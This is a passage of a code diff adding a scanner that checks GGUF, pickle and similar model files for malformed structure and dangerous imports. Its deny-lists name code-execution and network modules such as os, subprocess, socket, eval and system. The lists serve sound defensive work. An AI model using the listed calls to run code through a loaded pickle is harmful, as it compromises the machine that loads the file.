+  const e = ext(name2);
+  if (looksLikeOldPickle(head)) return "pickle";
+  if (e === ".safetensors") return "safetensors";
+  if (e === ".gguf") return "gguf";
+  if (e === ".npy") return "npy";
+  if (e === ".npz" || e === ".zip") return "zip";
+  if (e !== ".bin" && PICKLE_EXTENSIONS.includes(e)) return "pickle";
+  return "unknown";
+}
+function memberWorthScanning(name2) {
+  const e = ext(name2);
+  return PICKLE_EXTENSIONS.includes(e) || e === ".npy" || e === ".safetensors" || e === ".gguf";
+}
+var PICKLE_EXTENSIONS, SNIFF_BYTES;
+var init_detect = __esm({
+  "src/scan/detect.ts"() {
+    "use strict";
+    init_npy();
+    PICKLE_EXTENSIONS = [".pkl", ".pickle", ".bin", ".pt", ".pth", ".ckpt", ".joblib"];
+    SNIFF_BYTES = 64;
+  }
+});
+
+// src/scan/source.ts
+import { createReadStream } from "node:fs";
+var Truncated, ByteSource;
+var init_source = __esm({
+  "src/scan/source.ts"() {
+    "use strict";
+    Truncated = class extends Error {
+      constructor(at2) {
+        super(`unexpected end of data at offset ${at2}`);
+        this.at = at2;
+      }
+    };
+    ByteSource = class _ByteSource {
+      constructor(it2, size) {
+        this.it = it2;
+        this.size = size;
+      }
+      buf = Buffer.alloc(0);
+      off = 0;
+      done = false;
+      /** Absolute offset of the next unread byte. */
+      pos = 0;
+      static fromFile(file, start = 0, end) {
+        if (end !== void 0 && end <= start) return _ByteSource.fromBuffer(Buffer.alloc(0));
+        const s3 = createReadStream(file, { start, ...end !== void 0 ? { end: end - 1 } : {}, highWaterMark: 1 << 20 });
+        const src = new _ByteSource(s3[Symbol.asyncIterator](), end !== void 0 ? end - start : void 0);
+        src.pos = 0;
+        return src;
+      }
+      /** Bytes [start, end) of a random-access reader, in 1 MiB reads. */
+      static fromRandom(ra, start = 0, end = ra.size) {
+        const chunks = async function* () {
+          for (let pos = start; pos < end; ) {
+            const b2 = await ra.read(pos, Math.min(1 << 20, end - pos));
+            if (b2.length === 0) return;
+            pos += b2.length;
+            yield b2;
+          }
+        };
+        return new _ByteSource(chunks(), Math.max(0, end - start));
+      }
+      static fromBuffer(b2) {
+        const src = new _ByteSource((async function* () {
+        })(), b2.length);
+        src.buf = b2;
+        src.done = true;
+        return src;
+      }
+      static fromIterable(it2, size) {
+        return new _ByteSource(it2[Symbol.asyncIterator](), size);
+      }
+      get buffered() {
+        return this.buf.length - this.off;
+      }
+      static toBuf(v2) {
+        return typeof v2 === "string" ? Buffer.from(v2, "latin1") : Buffer.isBuffer(v2) ? v2 : Buffer.from(v2.buffer, v2.byteOffset, v2.byteLength);
+      }
+      /** Buffer at least n bytes; false when the data ends first. */
+      async ensure(n) {
+        if (this.buffered >= n) return true;
+        const parts = [this.buf.subarray(this.off)];
+        let have = parts[0].length;
+        while (have < n && !this.done) {
+          const r = await this.it.next();
+          if (r.done) {
+            this.done = true;
+            break;
+          }
+          const b2 = _ByteSource.toBuf(r.value);
+          parts.push(b2);
+          have += b2.length;
+        }
+        this.buf = parts.length === 1 ? parts[0] : Buffer.concat(parts, have);
+        this.off = 0;
+        return have >= n;
+      }
+      /** Only after ensure(n). */
+      u8() {
+        this.pos++;
+        return this.buf[this.off++];
+      }
+      /** Only after ensure(n); the returned view is valid until the next read. */
+      take(n) {
+        const b2 = this.buf.subarray(this.off, this.off + n);
+        this.off += n;
+        this.pos += n;
+        return b2;
+      }
+      peek(n) {
+        return this.buf.subarray(this.off, this.off + n);
+      }
+      async read(n) {
+        if (!await this.ensure(n)) throw new Truncated(this.pos + this.buffered);
+        return this.take(n);
+      }
+      /** Drop n bytes (streamed past, never buffered whole). */
+      async skip(n) {
+        while (n > 0) {
+          if (this.buffered === 0 && !await this.ensure(1)) throw new Truncated(this.pos);
+          const k2 = Math.min(n, this.buffered);
+          this.off += k2;
+          this.pos += k2;
+          n -= k2;
+        }
+      }
+      /** Read the rest and return how many bytes there were. */
+      async drain() {
+        let n = 0;
+        for (; ; ) {
+          if (this.buffered === 0 && !await this.ensure(1)) return n;
+          n += this.buffered;
+          this.pos += this.buffered;
+          this.off = this.buf.length;
+        }
+      }
+      /** A line ending in "\n" (without it), at most max bytes; undefined if longer. */
+      async line(max) {
+        let scanned = 0;
+        for (; ; ) {
+          const idx = this.buf.indexOf(10, this.off + scanned);
+          if (idx >= 0 && idx - this.off <= max) {
+            const b2 = this.buf.subarray(this.off, idx);
+            const n = idx - this.off + 1;
+            this.off += n;
+            this.pos += n;
+            return b2;
+          }
+          if (idx >= 0 || this.buffered > max) return void 0;
+          scanned = this.buffered;
+          if (!await this.ensure(this.buffered + 1)) throw new Truncated(this.pos + this.buffered);
+        }
+      }
+      async atEnd() {
+        return !await this.ensure(1);
+      }
+      async close() {
+        this.done = true;
+        try {
+          await this.it.return?.();
+        } catch {
+        }
+      }
+    };
+  }
+});
+
+// src/scan/gguf.ts
+async function checkGguf(src, size, file, limits, member) {
+  const findings = [];
+  const add = (code, message, severity = "high") => findings.push({ code, severity, file, ...member !== void 0 ? { member } : {}, message });
+  const left = () => size - src.pos;
+  const u323 = async () => (await src.read(4)).readUInt32LE(0);
+  const u64 = async (what) => {
+    const v2 = (await src.read(8)).readBigUInt64LE(0);
+    if (v2 > BigInt(Number.MAX_SAFE_INTEGER)) throw new Bad(`${what} ${v2} is impossibly large`);
+    return Number(v2);
+  };
+  let version = 0;
+  const count = async (what) => version === 1 ? u323() : u64(what);
+  const string = async (what, keep) => {
+    const n = await count(`${what} length`);
+    if (n > limits.maxGgufString) throw new Bad(`${what} length ${n} exceeds the ${limits.maxGgufString}-byte limit`);
+    if (n > left()) throw new Bad(`${what} length ${n} runs past the end of the file`);
+    if (!keep) {
+      await src.skip(n);
+      return void 0;
+    }
+    return (await src.read(n)).toString("utf8");
+  };
+  try {
+    if (size < 8 || !await src.ensure(4) || src.peek(4).toString("latin1") !== "GGUF") {
+      const got = await src.ensure(4) ? JSON.stringify(src.peek(4).toString("latin1")) : "too few bytes";
+      add("GGUF_BAD_MAGIC", `not a GGUF file: magic is ${got}, expected "GGUF"`);
+      return findings;
+    }
+    await src.skip(4);
+    version = await u323();
+    if (version < 1 || version > 3) {
+      add("GGUF_VERSION", `unsupported GGUF version ${version} (known: 1-3)`);
+      return findings;
+    }
+    const tensors = await count("tensor count");
+    const kvs = await count("key/value count");
+    if (tensors > limits.maxGgufCount) throw new Bad(`tensor count ${tensors} exceeds the limit of ${limits.maxGgufCount}`);
+    if (kvs > limits.maxGgufCount) throw new Bad(`key/value count ${kvs} exceeds the limit of ${limits.maxGgufCount}`);
+    if (kvs * 12 + tensors * 24 > left()) throw new Bad(`${tensors} tensors and ${kvs} key/values cannot fit in ${size} bytes`);
+    let alignment = 32;
+    const value = async (type, key, depth) => {
+      const w2 = FIXED[type];
+      if (w2 !== void 0) {
+        if (key === "general.alignment" && type === 4) {
+          alignment = await u323();
+          return;
+        }
+        await src.read(w2);
+        return;
+      }
+      if (type === GGUF_STRING) {
+        await string(`value of ${key}`, false);
+        return;
+      }
+      if (type === GGUF_ARRAY) {
+        if (depth > 2) throw new Bad(`array nesting too deep in ${key}`);
+        const et2 = await u323();
+        const n = await count(`array length of ${key}`);
+        if (n > limits.maxGgufArray) throw new Bad(`array ${key} has ${n} elements, more than the limit of ${limits.maxGgufArray}`);
+        const ew = FIXED[et2];
+        if (ew !== void 0) {
+          if (n * ew > left()) throw new Bad(`array ${key} (${n} x ${ew} bytes) runs past the end of the file`);
+          await src.skip(n * ew);
+          return;
+        }
+        if (et2 !== GGUF_STRING && et2 !== GGUF_ARRAY) throw new Bad(`array ${key} has unknown element type ${et2}`);
+        if (n * 8 > left()) throw new Bad(`array ${key} of ${n} elements runs past the end of the file`);
+        if (et2 === GGUF_ARRAY) {
+          for (let i = 0; i < n; i++) await value(et2, key, depth + 1);
+          return;
+        }
+        const lenBytes = version === 1 ? 4 : 8;
+        for (let i = 0; i < n; i++) {
+          if (src.buffered < lenBytes && !await src.ensure(lenBytes)) throw new Truncated(src.pos + src.buffered);
+          const b2 = src.take(lenBytes);
+          const len = lenBytes === 4 ? b2.readUInt32LE(0) : Number(b2.readBigUInt64LE(0));
+          if (len > limits.maxGgufString) throw new Bad(`string ${i} of array ${key} is ${len} bytes, over the ${limits.maxGgufString}-byte limit`);
+          if (len > left()) throw new Bad(`string ${i} of array ${key} runs past the end of the file`);
+          if (src.buffered >= len) src.take(len);
+          else await src.skip(len);
+        }
+        return;
+      }
+      throw new Bad(`key ${key} has unknown value type ${type}`);
+    };
+    for (let i = 0; i < kvs; i++) {
+      const key = await string(`key ${i}`, true);
+      const type = await u323();
+      await value(type, JSON.stringify(key.slice(0, 120)), 0);
+    }
+    if (alignment === 0 || (alignment & alignment - 1) !== 0) throw new Bad(`general.alignment ${alignment} is not a power of two`);
+    const infos = [];
+    for (let i = 0; i < tensors; i++) {
+      const name2 = await string(`tensor ${i} name`, true);
+      const dims = await u323();
+      if (dims > MAX_DIMS) throw new Bad(`tensor ${JSON.stringify(name2.slice(0, 120))} has ${dims} dimensions (at most ${MAX_DIMS})`);
+      let elems = 1n;
+      for (let d = 0; d < dims; d++) elems *= BigInt(await u64("dimension"));
+      const type = await u323();
+      const offset = await u64("tensor offset");
+      const block = GGML_BLOCKS[type];
+      let bytes;
+      if (block) {
+        if (elems % BigInt(block[0]) !== 0n) throw new Bad(`tensor ${JSON.stringify(name2.slice(0, 120))} has ${elems} elements, not a multiple of its type's block of ${block[0]}`);
+        const b2 = elems / BigInt(block[0]) * BigInt(block[1]);
+        if (b2 > BigInt(size)) throw new Bad(`tensor ${JSON.stringify(name2.slice(0, 120))} needs ${b2} bytes, more than the whole file`);
+        bytes = Number(b2);
+      } else if (type > 63) {
+        add("GGUF_TENSOR", `tensor ${JSON.stringify(name2.slice(0, 120))} has unknown type ${type}`, "medium");
+      }
+      infos.push({ name: name2, offset, bytes });
+    }
+    const dataStart = Math.ceil(src.pos / alignment) * alignment;
+    const dataLen = size - dataStart;
+    if (tensors > 0 && dataLen < 0) throw new Bad("tensor data would start past the end of the file");
+    for (const t of infos) {
+      const shown = JSON.stringify(t.name.slice(0, 120));
+      if (t.offset % alignment !== 0) add("GGUF_TENSOR", `tensor ${shown} offset ${t.offset} is not aligned to ${alignment}`);
+      if (t.offset + (t.bytes ?? 0) > dataLen) add("GGUF_TENSOR", `tensor ${shown} (offset ${t.offset}${t.bytes !== void 0 ? `, ${t.bytes} bytes` : ""}) lies outside the ${dataLen} data bytes`);
+    }
+    infos.sort((a, b2) => a.offset - b2.offset);
+    for (let i = 1; i < infos.length; i++) {
+      const p2 = infos[i - 1];
+      if (p2.bytes !== void 0 && p2.offset + p2.bytes > infos[i].offset) add("GGUF_TENSOR", `tensors ${JSON.stringify(p2.name.slice(0, 120))} and ${JSON.stringify(infos[i].name.slice(0, 120))} overlap`);
+    }
+  } catch (e) {
+    if (e instanceof Bad) add("GGUF_MALFORMED", e.message);
+    else if (e instanceof Truncated) add("GGUF_MALFORMED", `file ends inside the GGUF header (${e.message})`);
+    else throw e;
+  }
+  return findings;
+}
+var FIXED, GGUF_STRING, GGUF_ARRAY, MAX_DIMS, GGML_BLOCKS, Bad;
+var init_gguf = __esm({
+  "src/scan/gguf.ts"() {
+    "use strict";
+    init_source();
+    FIXED = { 0: 1, 1: 1, 2: 2, 3: 2, 4: 4, 5: 4, 6: 4, 7: 1, 10: 8, 11: 8, 12: 8 };
+    GGUF_STRING = 8;
+    GGUF_ARRAY = 9;
+    MAX_DIMS = 4;
+    GGML_BLOCKS = {
+      0: [1, 4],
+      1: [1, 2],
+      2: [32, 18],
+      3: [32, 20],
+      6: [32, 22],
+      7: [32, 24],
+      8: [32, 34],
+      9: [32, 36],
+      10: [256, 84],
+      11: [256, 110],
+      12: [256, 144],
+      13: [256, 176],
+      14: [256, 210],
+      15: [256, 292],
+      24: [1, 1],
+      25: [1, 2],
+      26: [1, 4],
+      27: [1, 8],
+      28: [1, 8],
+      30: [1, 2]
+    };
+    Bad = class extends Error {
+    };
+  }
+});
+
+// src/scan/globals.ts
+function canonicalModule(module) {
+  const first = module.split(".")[0];
+  const mapped = PY2_MODULES[first];
+  return mapped === void 0 ? module : mapped + module.slice(first.length);
+}
+function underPrefix(full, prefix) {
+  return full === prefix || full.startsWith(`${prefix}.`);
+}
+function classifyGlobal(module, name2) {
+  const mod = canonicalModule(module);
+  const full = `${mod}.${name2}`;
+  if (ALLOWED.has(full) || TORCH_STORAGE.test(full) || NUMPY_DTYPE_CLASS.test(full)) return { verdict: "allowed" };
+  for (const m2 of DANGEROUS_MODULES) if (underPrefix(full, m2)) return { verdict: "dangerous", why: `${m2} is on the deny-list` };
+  const segs = full.split(".");
+  if (segs[0] === "builtins" && segs.length >= 2 && DANGEROUS_BUILTINS.has(segs[1])) return { verdict: "dangerous", why: `builtin ${segs[1]} can run code or reach any object` };
+  for (const s3 of segs.slice(1)) {
+    if (DANGEROUS_SEGMENTS.has(s3)) return { verdict: "dangerous", why: `reaches "${s3}" through attribute lookup` };
+    if (/^__.*__$/.test(s3)) return { verdict: "dangerous", why: `reaches the dunder attribute ${s3}` };
+  }
+  if (name2 === "" || module === "" || !/^[A-Za-z_][A-Za-z0-9_.]*$/.test(module) || !/^[A-Za-z_][A-Za-z0-9_.]*$/.test(name2)) {
+    return { verdict: "dangerous", why: "not a valid Python name" };
+  }
+  return { verdict: "unknown" };
+}
+var PY2_MODULES, TORCH_REBUILD, TORCH_DTYPES, ALLOWED, TORCH_STORAGE, NUMPY_DTYPE_CLASS, DANGEROUS_MODULES, DANGEROUS_BUILTINS, DANGEROUS_SEGMENTS;
+var init_globals = __esm({
+  "src/scan/globals.ts"() {
+    "use strict";
+    PY2_MODULES = { __builtin__: "builtins", copy_reg: "copyreg", exceptions: "builtins" };
+    TORCH_REBUILD = [
+      "_rebuild_tensor",
+      "_rebuild_tensor_v2",
+      "_rebuild_tensor_v3",
+      "_rebuild_parameter",
+      "_rebuild_parameter_with_state",
+      "_rebuild_sparse_tensor",
+      "_rebuild_sparse_csr_tensor",
+      "_rebuild_qtensor",
+      "_rebuild_nested_tensor",
+      "_rebuild_device_tensor_from_numpy",
+      "_rebuild_meta_tensor_no_storage",
+      "_rebuild_device_tensor_from_cpu_tensor"
+    ];
+    TORCH_DTYPES = [
+      "float16",
+      "float32",
+      "float64",
+      "bfloat16",
+      "half",
+      "float",
+      "double",
+      "complex32",
+      "complex64",
+      "complex128",
+      "cfloat",
+      "cdouble",
+      "uint8",
+      "uint16",
+      "uint32",
+      "uint64",
+      "int8",
+      "int16",
+      "int32",
+      "int64",
+      "short",
+      "int",
+      "long",
+      "bool",
+      "float8_e4m3fn",
+      "float8_e5m2",
+      "float8_e4m3fnuz",
+      "float8_e5m2fnuz",
+      "qint8",
+      "quint8",
+      "qint32",
+      "quint4x2",
+      "contiguous_format",
+      "channels_last",
+      "channels_last_3d",
+      "preserve_format"
+    ];
+    ALLOWED = /* @__PURE__ */ new Set([
+      ...TORCH_REBUILD.map((n) => `torch._utils.${n}`),
+      ...TORCH_DTYPES.map((n) => `torch.${n}`),
+      "torch.Size",
+      "torch.device",
+      "torch.Tensor",
+      "torch.nn.parameter.Parameter",
+      "torch._tensor._rebuild_from_type_v2",
+      "torch.serialization._get_layout",
+      "torch.sparse_coo",
+      "torch.strided",
+      // TorchScript archives rebuild lists and tensors with these.
+      "torch.jit._pickle.build_intlist",
+      "torch.jit._pickle.build_doublelist",
+      "torch.jit._pickle.build_boollist",
+      "torch.jit._pickle.build_tensorlist",
+      "torch.jit._pickle.build_tensor_from_id",
+      "torch.jit._pickle.restore_type_tag",
+      "collections.OrderedDict",
+      "builtins.set",
+      "builtins.frozenset",
+      "builtins.dict",
+      "builtins.list",
+      "builtins.tuple",
+      "builtins.bytearray",
+      "builtins.bytes",
+      "builtins.str",
+      "builtins.int",
+      "builtins.float",
+      "builtins.complex",
+      "builtins.bool",
+      "builtins.slice",
+      "builtins.object",
+      "_codecs.encode",
+      // protocol 2 writes bytes as _codecs.encode(str, "latin1")
+      "copyreg._reconstructor",
+      // protocol 0/1 object rebuild; the class it builds is checked on its own
+      "numpy.core.multiarray._reconstruct",
+      "numpy._core.multiarray._reconstruct",
+      "numpy.core.multiarray.scalar",
+      "numpy._core.multiarray.scalar",
+      "numpy.core.numeric._frombuffer",
+      "numpy._core.numeric._frombuffer",
+      "numpy.dtype",
+      "numpy.ndarray",
+      "joblib.numpy_pickle.NumpyArrayWrapper",
+      "sklearn.externals.joblib.numpy_pickle.NumpyArrayWrapper"
+    ]);
+    TORCH_STORAGE = /^torch\.(?:cuda\.)?[A-Za-z0-9]*Storage$/;
+    NUMPY_DTYPE_CLASS = /^numpy\.dtypes\.[A-Za-z0-9]+DType$/;
+    DANGEROUS_MODULES = [
+      "os",
+      "posix",
+      "nt",
+      "posixpath",
+      "ntpath",
+      "subprocess",
+      "pty",
+      "sys",
+      "socket",
+      "ssl",
+      "shutil",
+      "runpy",
+      "importlib",
+      "imp",
+      "pkgutil",
+      "zipimport",
+      "pickle",
+      "_pickle",
+      "cPickle",
+      "pickletools",
+      "marshal",
+      "dill",
+      "cloudpickle",
+      "joblib.load",
+      "shelve",
+      "types",
+      "code",
+      "codeop",
+      "ctypes",
+      "_ctypes",
+      "cffi",
+      "multiprocessing",
+      "concurrent",
+      "threading",
+      "_thread",
+      "asyncio",
+      "signal",
+      "resource",
+      "webbrowser",
+      "requests",
+      "urllib",
+      "urllib2",
+      "urllib3",
+      "httplib",
+      "http",
+      "httpx",
+      "aiohttp",
+      "ftplib",
+      "smtplib",
+      "telnetlib",
+      "poplib",
+      "imaplib",
+      "xmlrpc",
+      "socketserver",
+      "commands",
+      "pdb",
+      "bdb",
+      "timeit",
+      "cProfile",
+      "profile",
+      "trace",
+      "doctest",
+      "io",
+      "_io",
+      "tempfile",
+      "glob",
+      "fileinput",
+      "pathlib",
+      "sqlite3",
+      "builtins.eval",
+      "operator.attrgetter",
+      "operator.methodcaller",
+      "gc",
+      "inspect",
+      "site",
+      "sysconfig",
+      "venv",
+      "ensurepip",
+      "pip",
+      "setuptools",
+      "distutils",
+      "platform",
+      "uuid._popen",
+      "torch.hub",
+      "torch.load",
+      "torch.storage._load_from_bytes",
+      "torch.serialization.load",
+      "torch.jit.load",
+      "torch.jit._load_for_lite_interpreter",
+      "torch._dynamo",
+      "torch.utils.cpp_extension",
+      "numpy.load",
+      "numpy.testing",
+      "numpy.f2py",
+      "numpy.distutils",
+      "numpy.ctypeslib",
+      "pandas.read_pickle",
+      "keras.models",
+      "tensorflow.io",
+      "bz2",
+      "lzma",
+      "gzip",
+      "zipfile",
+      "tarfile",
+      "mmap",
+      "fcntl",
+      "termios",
+      "tty",
+      "pwd",
+      "grp",
+      "crypt",
+      "spwd",
+      "syslog",
+      "select"
+    ];
+    DANGEROUS_BUILTINS = /* @__PURE__ */ new Set([
+      "eval",
+      "exec",
+      "execfile",
+      "compile",
+      "open",
+      "file",
+      "getattr",
+      "setattr",
+      "delattr",
+      "hasattr",
+      "__import__",
+      "globals",
+      "locals",
+      "vars",
+      "input",
+      "raw_input",
+      "breakpoint",
+      "apply",
+      "reload",
+      "help",
+      "memoryview",
+      "exit",
+      "quit"
+    ]);
+    DANGEROUS_SEGMENTS = /* @__PURE__ */ new Set([
+      "os",
+      "posix",
+      "nt",
+      "subprocess",
+      "sys",
+      "socket",
+      "shutil",
+      "runpy",
+      "importlib",
+      "pickle",
+      "marshal",
+      "builtins",
+      "__builtin__",
+      "__builtins__",
+      "system",
+      "popen",
+      "spawn",
+      "execv",
+      "execve",
+      "execl",
+      "execvp",
+      "fork",
+      "eval",
+      "exec",
+      "compile",
+      "getattr",
+      "setattr",
+      "__import__",
+      "import_module",
+      "load",
+      "loads",
+      "open"
+    ]);
+  }
+});
+
+// src/scan/pickle.ts
+import { isUtf8 } from "node:buffer";
+function describe2(v2) {
+  if (v2 === void 0) return "nothing (empty stack)";
+  switch (v2.k) {
+    case "mark":
+      return "a MARK";
+    case "str":
+      return JSON.stringify(v2.s.slice(0, 80));
+    case "global":
+      return `the global ${v2.g.module}.${v2.g.name}`;
+    case "obj":
+      return `an object made by ${v2.g.module}.${v2.g.name}`;
+    default:
+      return `a ${v2.what}`;
+  }
+}
+function decodeQuoted(line) {
+  const t = line.toString("latin1");
+  if (t.length < 2 || t[0] !== "'" && t[0] !== '"' || t[t.length - 1] !== t[0]) return void 0;
+  const body = t.slice(1, -1);
+  if (!body.includes("\\")) return body;
   let out2 = "";
-  let i = 0;
-  while (i < raw.length) {
-    const b2 = raw[i];
-    const n = utf8SequenceLength(raw, i);
-    if (n === 1 && b2 >= 32 && b2 !== 127 && b2 !== 92) out2 += String.fromCharCode(b2);
-    else if (n > 1) out2 += Buffer.from(raw.subarray(i, i + n)).toString("utf8");
-    else out2 += `\\x${b2.toString(16).padStart(2, "0")}`;
-    i += n > 0 ? n : 1;
+  for (let i = 0; i < body.length; i++) {
+    const c = body[i];
+    if (c !== "\\") {
+      out2 += c;
+      continue;
+    }
+    const e = body[++i];
+    if (e === void 0) return void 0;
+    const simple = { n: "\n", t: "	", r: "\r", "\\": "\\", "'": "'", '"': '"', a: "\x07", b: "\b", f: "\f", v: "\v", "\n": "" };
+    if (simple[e] !== void 0) out2 += simple[e];
+    else if (e === "x" && /^[0-9a-fA-F]{2}$/.test(body.slice(i + 1, i + 3))) {
+      out2 += String.fromCharCode(parseInt(body.slice(i + 1, i + 3), 16));
+      i += 2;
+    } else if (/[0-7]/.test(e)) {
+      const m2 = /^[0-7]{1,3}/.exec(body.slice(i))[0];
+      out2 += String.fromCharCode(parseInt(m2, 8) & 255);
+      i += m2.length - 1;
+    } else out2 += `\\${e}`;
   }
   return out2;
 }
-function utf8SequenceLength(raw, i) {
-  const b2 = raw[i];
-  if (b2 < 128) return 1;
-  const cont = (k2, lo2 = 128, hi2 = 191) => i + k2 < raw.length && raw[i + k2] >= lo2 && raw[i + k2] <= hi2;
-  if (b2 >= 194 && b2 <= 223) return cont(1) ? 2 : 0;
-  if (b2 === 224) return cont(1, 160) && cont(2) ? 3 : 0;
-  if (b2 === 237) return cont(1, 128, 159) && cont(2) ? 3 : 0;
-  if (b2 >= 225 && b2 <= 239) return cont(1) && cont(2) ? 3 : 0;
-  if (b2 === 240) return cont(1, 144) && cont(2) && cont(3) ? 4 : 0;
-  if (b2 >= 241 && b2 <= 243) return cont(1) && cont(2) && cont(3) ? 4 : 0;
-  if (b2 === 244) return cont(1, 128, 143) && cont(2) && cont(3) ? 4 : 0;
-  return 0;
-}
-function fsErrorCode(e) {
-  const c = e instanceof Error ? errnoCode(e) : void 0;
-  return c !== void 0 && /^E[A-Z0-9]+$/.test(c) ? c : void 0;
-}
-function fsProblem(e, rel, op, abs) {
-  const c = fsErrorCode(e);
-  if (c === void 0) throw e;
-  if (c === "ENAMETOOLONG") {
-    return { code: "PATH_TOO_LONG", path: rel, message: `path too long to open (ENAMETOOLONG): ${Buffer.byteLength(abs)} bytes as an absolute path` };
+function decodeRawUnicode(line) {
+  const t = line.toString("latin1");
+  let out2 = "";
+  for (let i = 0; i < t.length; i++) {
+    if (t[i] === "\\" && (t[i + 1] === "u" || t[i + 1] === "U")) {
+      const n = t[i + 1] === "u" ? 4 : 8;
+      const hex = t.slice(i + 2, i + 2 + n);
+      if (!new RegExp(`^[0-9a-fA-F]{${n}}$`).test(hex)) return void 0;
+      const cp2 = parseInt(hex, 16);
+      if (cp2 > 1114111) return void 0;
+      out2 += String.fromCodePoint(cp2);
+      i += 1 + n;
+    } else out2 += t[i];
   }
-  const what = op === "list" ? "cannot list directory" : "cannot read file information";
-  return { code: "UNREADABLE", path: rel, message: c === "EACCES" || c === "EPERM" ? `${what}: permission denied (${c})` : `${what} (${c})` };
+  return out2;
 }
-async function enumerateModel(model, opts) {
-  const root = path8.resolve(model);
-  let st2;
+function utf8(b2) {
+  if (!isUtf8(b2)) throw new Malformed("string is not valid UTF-8");
+  return b2.toString("utf8");
+}
+async function walkPickles(src, opts) {
+  const { limits } = opts;
+  const imports = /* @__PURE__ */ new Map();
+  const findings = [];
+  const base2 = { file: opts.file, ...opts.member !== void 0 ? { member: opts.member } : {} };
+  const add = (severity, code, message, offset, global2) => {
+    findings.push({ ...base2, code, severity, message, ...offset !== void 0 ? { offset } : {}, ...global2 !== void 0 ? { global: global2 } : {} });
+  };
+  let opcodes = 0;
+  let pickles = 0;
+  let stringBytes = 0;
+  let legacyTorch = false;
+  const interned = /* @__PURE__ */ new Map();
+  const globalOf = (module, name2) => {
+    const k2 = `${module}
+${name2}`;
+    let g2 = interned.get(k2);
+    if (!g2) {
+      if (interned.size >= limits.maxImports) throw new LimitHit(`more than ${limits.maxImports} distinct imported globals`);
+      g2 = { module, name: name2 };
+      interned.set(k2, g2);
+    }
+    return g2;
+  };
+  const record = (g2, via, use) => {
+    let imp = imports.get(g2);
+    if (!imp) {
+      imp = { module: g2.module, name: g2.name, via: [], usedBy: [], verdict: classifyGlobal(g2.module, g2.name).verdict, ...opts.member !== void 0 ? { member: opts.member } : {} };
+      imports.set(g2, imp);
+    }
+    if (via && !imp.via.includes(via)) imp.via.push(via);
+    if (use && !imp.usedBy.includes(use)) imp.usedBy.push(use);
+  };
+  const used = (v2, use) => {
+    if (v2 && (v2.k === "global" || v2.k === "obj")) record(v2.g, void 0, use);
+  };
+  const str3 = (b2, enc) => {
+    if (b2.length > MAX_KEPT_STRING || stringBytes + b2.length > limits.maxStringBytes) return LONGSTR;
+    stringBytes += b2.length;
+    if (enc === "latin1") return { k: "str", s: b2.toString("latin1") };
+    return { k: "str", s: utf8(b2) };
+  };
+  const walkOne = async () => {
+    const stack = [];
+    const marks = [];
+    const memo = /* @__PURE__ */ new Map();
+    const push = (v2) => {
+      if (stack.length >= limits.maxStack) throw new LimitHit(`stack deeper than ${limits.maxStack}`);
+      stack.push(v2);
+    };
+    const pop = () => {
+      if (stack.length === 0 || marks.length > 0 && stack.length <= marks[marks.length - 1]) throw new Malformed("pop from an empty stack");
+      return stack.pop();
+    };
+    const popMark = () => {
+      const m2 = marks.pop();
+      if (m2 === void 0) throw new Malformed("no MARK to pop to");
+      return stack.splice(m2);
+    };
+    const top = () => {
+      if (stack.length === 0) throw new Malformed("empty stack");
+      return stack[stack.length - 1];
+    };
+    const fixed = (n) => {
+      if (src.buffered < n) throw new Truncated(src.pos + src.buffered);
+      return src.take(n);
+    };
+    const size8 = (b2) => {
+      const v2 = b2.readBigUInt64LE(0);
+      if (v2 > BigInt(Number.MAX_SAFE_INTEGER)) throw new Malformed("length too large");
+      return Number(v2);
+    };
+    const lenStr = async (n, enc) => {
+      if (n > MAX_KEPT_STRING) {
+        await src.skip(n);
+        return LONGSTR;
+      }
+      if (src.buffered < n) await src.ensure(n);
+      return str3(fixed(n), enc);
+    };
+    const skipBytes = async (n) => {
+      if (src.buffered >= n) src.take(n);
+      else await src.skip(n);
+      return BYTES;
+    };
+    const line = async (what) => {
+      const l = await src.line(MAX_LINE);
+      if (l === void 0) throw new Malformed(`${what} argument longer than ${MAX_LINE} bytes`);
+      return l;
+    };
+    const memoPut = (i, v2) => {
+      if (!memo.has(i) && memo.size >= limits.maxMemo) throw new LimitHit(`more than ${limits.maxMemo} memo entries`);
+      memo.set(i, v2);
+    };
+    const memoGet = (i) => {
+      const v2 = memo.get(i);
+      if (v2 === void 0) throw new Malformed(`memo key ${i} was never stored`);
+      push(v2);
+    };
+    const call = (f2, use) => {
+      used(f2, use);
+      push(f2.k === "global" || f2.k === "obj" ? { k: "obj", g: f2.g } : OTHER);
+    };
+    const importGlobal = async (via) => {
+      const m2 = await src.line(1024);
+      const n = m2 === void 0 ? void 0 : await src.line(1024);
+      if (m2 === void 0 || n === void 0) throw new Malformed(`${via} name longer than 1024 bytes`);
+      if (!isUtf8(m2) || !isUtf8(n)) throw new Malformed(`${via} name is not valid UTF-8`);
+      const g2 = globalOf(m2.toString("utf8"), n.toString("utf8"));
+      record(g2, via);
+      return g2;
+    };
+    for (; ; ) {
+      if (++opcodes > limits.maxOpcodes) throw new LimitHit(`more than ${limits.maxOpcodes} opcodes`);
+      if (src.buffered < 16) await src.ensure(16);
+      if (src.buffered < 1) throw new Malformed("pickle ends without STOP");
+      const at2 = src.pos;
+      const op = src.u8();
+      switch (op) {
+        case 40:
+          marks.push(stack.length);
+          break;
+        case 46:
+          pop();
+          return;
+        case 48:
+          if (marks.length > 0 && stack.length === marks[marks.length - 1]) marks.pop();
+          else pop();
+          break;
+        case 49:
+          popMark();
+          break;
+        case 50:
+          push(top());
+          break;
+        case 70:
+        case 73:
+        case 76:
+          await line(NAMES[op]);
+          push(OTHER);
+          break;
+        case 74:
+          fixed(4);
+          push(OTHER);
+          break;
+        // BININT
+        case 75:
+          fixed(1);
+          push(OTHER);
+          break;
+        // BININT1
+        case 77:
+          fixed(2);
+          push(OTHER);
+          break;
+        // BININT2
+        case 71:
+          fixed(8);
+          push(OTHER);
+          break;
+        // BINFLOAT
+        case 78:
+        case 136:
+        case 137:
+          push(OTHER);
+          break;
+        // NONE NEWTRUE NEWFALSE
+        case 80:
+          await line("PERSID");
+          push(OTHER);
+          break;
+        case 81:
+          pop();
+          push(OTHER);
+          break;
+        case 82: {
+          pop();
+          call(pop(), "REDUCE");
+          break;
+        }
+        case 83: {
+          const l = await line("STRING");
+          const s3 = decodeQuoted(l);
+          if (s3 === void 0) throw new Malformed("STRING argument is not a quoted string");
+          push(str3(Buffer.from(s3, "latin1"), "latin1"));
+          break;
+        }
+        case 84: {
+          const n = fixed(4).readInt32LE(0);
+          if (n < 0) throw new Malformed("negative BINSTRING length");
+          push(await lenStr(n, "latin1"));
+          break;
+        }
+        case 85:
